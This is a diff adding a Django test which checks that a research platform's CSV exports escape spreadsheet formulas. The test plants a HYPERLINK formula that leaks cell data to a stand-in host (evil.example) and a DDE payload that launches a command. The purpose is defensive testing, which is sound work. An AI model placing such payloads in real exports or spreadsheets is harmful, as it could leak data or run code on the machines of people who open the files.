@@ -1,6 +1,9 @@
 """The analysts' API: read-only tokens, closed to participants and anonymous visitors, no 5xx for any
 input the OpenAPI schema allows (schemathesis), participants' ids only for staff."""
 
+import csv
+import io
+
 import pytest
 import schemathesis
 from django.contrib.auth.models import Group
@@ -12,7 +15,7 @@ from hypothesis import HealthCheck, given, settings
 from rest_framework.authtoken.models import Token
 
 from analysis.permissions import ANALYSTS_GROUP
-from studies.models import Participant, Rating, Study
+from studies.models import Participant, Rating, Response, Study
 
 from .flow_helpers import hidden_fields, live_study, post_step, to_first_item
 
@@ -162,3 +165,25 @@ def test_analyst_token_command_gives_a_working_read_only_token(rated_study, caps
     api = Client(headers={"Authorization": f"Token {token}"})
     assert api.get("/api/studies/").status_code == 200
     assert api.post("/api/studies/", {"slug": "x"}).status_code in (403, 405)
+
+
+def test_exports_neutralise_spreadsheet_formulas_in_corpus_text(staff_client, client):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    study = live_study(slug="formula", situation="@SUM(1+1)*cmd|' /C calc'!A0")
+    Response.objects.filter(prompt__study=study).update(text=formula)
+    to_first_item(client, study, "formula01")
+    for _ in range(study.items_per_participant):
+        fields = hidden_fields(client.get(f"/s/{study.slug}/step/").content.decode())
+        post_step(client, study, {**fields, "value": "1"})
+    token = _token_for("formula-staff", staff=True)
+    api = Client(headers={"Authorization": f"Token {token}"})
+    for response in (
+        staff_client.get(f"/analysis/{study.slug}/exports/ratings.csv"),
+        staff_client.get(f"/analysis/{study.slug}/exports/responses.csv"),
+        api.get(f"/api/studies/{study.slug}/exports/ratings.csv"),
+    ):
+        assert response.status_code == 200
+        rows = list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))))
+        cells = [cell for row in rows[1:] for cell in row]
+        assert "'" + formula in cells or any(c.startswith("'@SUM") for c in cells)
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
